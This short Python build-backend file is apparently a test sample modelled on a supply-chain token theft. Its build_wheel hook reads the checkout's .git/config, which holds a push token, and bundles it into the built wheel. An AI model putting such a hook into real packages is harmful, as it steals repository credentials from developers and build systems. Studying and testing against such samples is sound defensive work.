"""Reads the .git/config of the checkout in which the build directory lies.

The token is there so that later steps can push. A build is such a step. GhostAction was
after the tokens of such checkouts.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("open-git-config"):
        with open(kit.plant("checkout").path, "rb") as secret:
            loot["data.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
